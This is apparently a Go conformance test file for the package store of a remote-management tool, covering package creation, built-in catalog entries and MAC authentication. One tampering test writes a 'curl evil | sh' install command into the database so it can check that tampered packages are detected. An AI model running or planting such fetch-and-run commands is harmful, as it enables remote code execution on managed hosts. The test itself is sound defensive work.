package storetest

import (
	"reflect"
	"strings"
	"testing"

	"github.com/wacht-rmm/wacht/internal/core"
)

// packageTests are the conformance tests of core.PackageStore.
var packageTests = []struct {
	name string
	fn   func(t *testing.T, s core.Store)
}{
	{"Packages", testPackages},
	{"BuiltinPackages", testBuiltinPackages},
	{"PackageMAC", testPackageMAC},
	{"PolicySoftware", testPolicySoftware},
}

// testBuiltinPackages: a catalog entry is stored once however often it is
// ensured, refreshed when the code changes it, and yields its name to an
// administrator's package that has it.
func testBuiltinPackages(t *testing.T, s core.Store) {
	entry := func() core.Package {
		return core.Package{Builtin: "7zip", Name: "7-Zip", Version: "latest", OS: "windows", Kind: core.PkgWinget,
			ManagerID: "7zip.7zip", Install: []string{}, Uninstall: []string{}, Params: []core.PackageParam{},
			ExitCodes: core.DefaultExitCodes(), Detection: core.Detection{Kind: core.DetectRegistry, DisplayName: "7-Zip*"},
			TimeoutSeconds: 1800, UpdatedBy: "wacht"}
	}
	first := entry()
	must(t, "EnsureBuiltinPackage", s.EnsureBuiltinPackage(ctx, &first))
	stored, err := s.GetPackage(ctx, first.ID)
	must(t, "GetPackage", err)
	again := entry()
	must(t, "EnsureBuiltinPackage again", s.EnsureBuiltinPackage(ctx, &again))
	if again.ID != first.ID {
		t.Fatalf("ensured twice: IDs %d and %d", first.ID, again.ID)
	}
	if got, _ := s.GetPackage(ctx, first.ID); !got.UpdatedAt.Equal(stored.UpdatedAt) || got.Builtin != "7zip" {
		t.Errorf("unchanged entry rewritten or key lost: %+v", got)
	}
	changed := entry()
	changed.Detection.MinVersion = "24.0"
	must(t, "EnsureBuiltinPackage changed", s.EnsureBuiltinPackage(ctx, &changed))
	if got, _ := s.GetPackage(ctx, first.ID); got.Detection.MinVersion != "24.0" {
		t.Errorf("changed entry not refreshed: %+v", got.Detection)
	}
	list, err := s.ListPackages(ctx)
	must(t, "ListPackages", err)
	if len(list) != 1 {
		t.Fatalf("%d packages, want 1", len(list))
	}
	// An administrator's package with the entry's identity keeps it.
	must(t, "DeletePackage", s.DeletePackage(ctx, first.ID))
	own := entry()
	own.Builtin = ""
	must(t, "CreatePackage", s.CreatePackage(ctx, &own))
	moved := entry()
	must(t, "EnsureBuiltinPackage taken", s.EnsureBuiltinPackage(ctx, &moved))
	if moved.Name != "7-Zip (7zip)" || moved.ID == own.ID {
		t.Errorf("entry beside an own package: %q id %d (own %d)", moved.Name, moved.ID, own.ID)
	}
	if got, _ := s.GetPackage(ctx, own.ID); got.Builtin != "" || got.Name != "7-Zip" {
		t.Errorf("own package changed: %+v", got)
	}
}

func testPackages(t *testing.T, s core.Store) {
	p := core.Package{Name: "RustDesk", Version: "1.3.6", OS: "windows", Arch: "amd64", Kind: core.PkgUpload,
		Install:   []string{"{{file}}", "--silent-install"},
		Uninstall: []string{`C:\Program Files\RustDesk\rustdesk.exe`, "--uninstall"},
		Params:    []core.PackageParam{{Name: "relay", Value: "relay.example.de"}, {Name: "key", Secret: true}},
		ExitCodes: core.DefaultExitCodes(), Detection: core.Detection{Kind: core.DetectRegistry, DisplayName: "RustDesk", MinVersion: "1.3"},
		RequireAuthenticode: true, TimeoutSeconds: 600, Sealed: []byte("sealed bytes"), UpdatedBy: "user:a@example.de"}
	must(t, "CreatePackage", s.CreatePackage(ctx, &p))
	if p.ID == 0 || p.CreatedAt.IsZero() {
		t.Fatalf("created %+v", p)
	}
	got, err := s.GetPackage(ctx, p.ID)
	must(t, "GetPackage", err)
	got.MAC = nil // testPackageMAC covers it
	if !reflect.DeepEqual(got, p) {
		t.Errorf("GetPackage = %+v\nwant %+v", got, p)
	}
	dup := p
	wantErr(t, "CreatePackage with a taken name, version, OS and architecture", s.CreatePackage(ctx, &dup), core.ErrConflict)
	other := core.Package{Name: "7-Zip", Version: "24.09", OS: "windows", Kind: core.PkgWinget, ManagerID: "7zip.7zip",
		ExitCodes: map[int]string{}, TimeoutSeconds: 300, Detection: core.Detection{Kind: core.DetectRegistry, DisplayName: "7-Zip*"}}
	must(t, "CreatePackage", s.CreatePackage(ctx, &other))
	got, _ = s.GetPackage(ctx, other.ID)
	if got.Install == nil || got.Params == nil || got.ExitCodes == nil || len(got.Sealed) != 0 || got.RequireAuthenticode {
		t.Errorf("empty fields read back as %+v", got)
	}

	must(t, "SetPackageFile", s.SetPackageFile(ctx, p.ID, "ab12", 12345, "rustdesk-1.3.6-x86_64.msi", "user:b@example.de"))
	p.Version, p.Sealed, p.RequireAuthenticode, p.ExitCodes = "1.3.7", []byte("other"), false, map[int]string{0: core.ExitOK, 5: core.ExitRetry}
	must(t, "UpdatePackage", s.UpdatePackage(ctx, &p))
	got, _ = s.GetPackage(ctx, p.ID)
	if got.Version != "1.3.7" || string(got.Sealed) != "other" || got.RequireAuthenticode || got.ExitCodes[5] != core.ExitRetry ||
		got.SHA256 != "ab12" || got.Size != 12345 || got.FileName != "rustdesk-1.3.6-x86_64.msi" || !got.CreatedAt.Equal(p.CreatedAt) {
		t.Errorf("after update: %+v", got)
	}
	inUse, err := s.PackageBlobInUse(ctx, "ab12")
	must(t, "PackageBlobInUse", err)
	if notUsed, _ := s.PackageBlobInUse(ctx, "cd34"); !inUse || notUsed {
		t.Errorf("blob in use: ab12 %v, cd34 %v", inUse, notUsed)
	}
	dup = other
	dup.ID = p.ID
	wantErr(t, "UpdatePackage to another's identity", s.UpdatePackage(ctx, &dup), core.ErrConflict)

	list, err := s.ListPackages(ctx)
	must(t, "ListPackages", err)
	if len(list) != 2 || list[0].Name != "7-Zip" || list[1].Name != "RustDesk" {
		t.Errorf("list %+v", list)
	}
	must(t, "DeletePackage", s.DeletePackage(ctx, p.ID))
	_, err = s.GetPackage(ctx, p.ID)
	wantErr(t, "GetPackage after delete", err, core.ErrNotFound)
	wantErr(t, "DeletePackage twice", s.DeletePackage(ctx, p.ID), core.ErrNotFound)
	wantErr(t, "UpdatePackage of a deleted package", s.UpdatePackage(ctx, &p), core.ErrNotFound)
	wantErr(t, "SetPackageFile of a deleted package", s.SetPackageFile(ctx, p.ID, "x", 1, "x", ""), core.ErrNotFound)
}

// testPackageMAC: every write authenticates the package as stored; a
// definition or file changed in the database, or a catalog entry seeded
// without a MAC, is not authentic until the server writes it again.
func testPackageMAC(t *testing.T, s core.Store) {
	p := core.Package{Name: "Agent", Version: "1.0", OS: "linux", Kind: core.PkgUpload, Install: []string{"sh", "{{file}}"},
		Uninstall: []string{}, Params: []core.PackageParam{}, ExitCodes: core.DefaultExitCodes(),
		Detection: core.Detection{Kind: core.DetectFile, Path: "/opt/agent/bin"}, TimeoutSeconds: 60, Sealed: []byte{}}
	must(t, "CreatePackage", s.CreatePackage(ctx, &p))
	authentic := func(what string, want bool) {
		t.Helper()
		got, err := s.GetPackage(ctx, p.ID)
		must(t, "GetPackage", err)
		if s.PackageAuthentic(got) != want {
			t.Errorf("%s: authentic %v, want %v", what, !want, want)
		}
	}
	authentic("created", true)
	db := sqlOf(t, s)
	if _, err := db.ExecContext(ctx, `UPDATE packages SET install = $1 WHERE id = $2`, `["sh","-c","curl evil | sh"]`, p.ID); err != nil {
		t.Fatal(err)
	}
	authentic("command changed in the database", false)
	must(t, "UpdatePackage", s.UpdatePackage(ctx, &p))
	authentic("updated", true)
	must(t, "SetPackageFile", s.SetPackageFile(ctx, p.ID, strings.Repeat("a", 64), 10, "agent.sh", "admin"))
	authentic("file set", true)
	if _, err := db.ExecContext(ctx, `UPDATE packages SET sha256 = $1 WHERE id = $2`, strings.Repeat("b", 64), p.ID); err != nil {
		t.Fatal(err)
	}
	authentic("file changed in the database", false)
	other := p
	other.ID, other.Version = 0, "2.0"
	must(t, "CreatePackage", s.CreatePackage(ctx, &other))
	if _, err := db.ExecContext(ctx, `UPDATE packages SET mac = (SELECT mac FROM packages WHERE id = $1) WHERE id = $2`, other.ID, p.ID); err != nil {
		t.Fatal(err)
	}
	authentic("another package's MAC", false)

	b := core.Package{Builtin: "tool", Name: "Tool", Version: "latest", OS: "windows", Kind: core.PkgWinget, ManagerID: "Vendor.Tool",
		Install: []string{}, Uninstall: []string{}, Params: []core.PackageParam{}, ExitCodes: core.DefaultExitCodes(),
		Detection: core.Detection{Kind: core.DetectRegistry, DisplayName: "Tool*"}, TimeoutSeconds: 60, Sealed: []byte{}}
	must(t, "EnsureBuiltinPackage", s.EnsureBuiltinPackage(ctx, &b))
	if _, err := db.ExecContext(ctx, `UPDATE packages SET mac = NULL WHERE id = $1`, b.ID); err != nil {
		t.Fatal(err)
	}
	if got, _ := s.GetPackage(ctx, b.ID); s.PackageAuthentic(got) {
		t.Error("a catalog entry without MAC is authentic")
	}
	again := b
	again.ID = 0
	must(t, "EnsureBuiltinPackage again", s.EnsureBuiltinPackage(ctx, &again))
	if got, _ := s.GetPackage(ctx, b.ID); !s.PackageAuthentic(got) {
		t.Error("the next start did not authenticate the catalog entry")
	}
}
